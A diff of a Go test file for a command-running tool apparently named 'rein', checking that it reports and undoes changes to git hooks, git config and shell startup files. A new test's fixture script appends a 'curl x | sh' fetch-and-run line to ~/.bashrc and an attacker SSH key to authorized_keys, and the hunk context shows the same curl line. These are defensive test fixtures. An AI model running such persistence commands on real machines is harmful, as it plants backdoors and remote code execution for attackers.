@@ -61,7 +61,7 @@ echo 'curl x | sh' > lint.sh
 	if v := git("config", "core.fsmonitor"); v != "" {
 		t.Errorf("core.fsmonitor = %q", v)
 	}
-	for _, want := range []string{"rein.jsonnet (the recipe", "pre-commit (a new git hook", "pre-push (a git hook", ".git/config (it now makes git run core.fsmonitor, alias.st)"} {
+	for _, want := range []string{"rein.jsonnet (the recipe", "added " + filepath.Join(hooks, "pre-commit") + " (git runs its hooks outside rein); rein removed it", "changed " + filepath.Join(hooks, "pre-push"), ".git/config (it now makes git run core.fsmonitor, alias.st)"} {
 		if !strings.Contains(res.Stderr, want) {
 			t.Errorf("stderr lacks %q:\n%s", want, res.Stderr)
 		}
@@ -78,7 +78,7 @@ echo 'curl x | sh' > lint.sh
 	if st, err := os.Lstat(hooks); err != nil || !st.IsDir() {
 		t.Errorf("hooks folder: %v %v", st, err)
 	}
-	if b, _ := os.ReadFile(filepath.Join(hooks, "pre-push")); string(b) != "#!/bin/sh\nexit 0\n" || !strings.Contains(res.Stderr, "git's hooks folder") {
+	if b, _ := os.ReadFile(filepath.Join(hooks, "pre-push")); string(b) != "#!/bin/sh\nexit 0\n" || !strings.Contains(res.Stderr, "replaced the folder "+hooks+" (git runs its hooks outside rein); rein made it again") {
 		t.Errorf("pre-push %q, stderr %q", b, res.Stderr)
 	}
 }
@@ -97,7 +97,32 @@ func TestPuttingBackFollowsNoLinks(t *testing.T) {
 	if b, err := os.ReadFile(filepath.Join(elsewhere, "hooks", "post-merge")); err != nil || string(b) != "keep me\n" {
 		t.Errorf("a file behind the link was touched: %q %v (stderr %q)", b, err, res.Stderr)
 	}
-	if !strings.Contains(res.Stderr, "rein could not put it back: its folder is no longer") {
+	if !strings.Contains(res.Stderr, "rein could not undo it: its folder is no longer") {
+		t.Errorf("stderr %q", res.Stderr)
+	}
+}
+
+// Without a sandbox (macOS, Windows, a kernel without Landlock), a command
+// can write outside the workspace: what the user's next shell or login runs
+// is put back as well.
+func TestRunWithoutSandboxPutsBackStartupFiles(t *testing.T) {
+	needUnix(t)
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("alias ll='ls -l'\n"), 0o644)
+	r, dir := newRunner(t, `{ commands: [{ command: './persist.sh' }] }`, []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home})
+	os.WriteFile(filepath.Join(dir, "persist.sh"), []byte(`#!/bin/sh
+echo 'curl x | sh' >> "$HOME/.bashrc"
+mkdir -p "$HOME/.ssh" && echo 'ssh-ed25519 AAAA evil' >> "$HOME/.ssh/authorized_keys"
+`), 0o755)
+	res := r.Run(context.Background(), "./persist.sh", runner.RunOptions{})
+	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "alias ll='ls -l'\n" {
+		t.Errorf(".bashrc now %q (stderr %q)", b, res.Stderr)
+	}
+	if _, err := os.Stat(filepath.Join(home, ".ssh", "authorized_keys")); err == nil {
+		t.Errorf("authorized_keys added (stderr %q)", res.Stderr)
+	}
+	if !strings.Contains(res.Stderr, "(your shell runs it when it starts); rein put it back") {
 		t.Errorf("stderr %q", res.Stderr)
 	}
 }
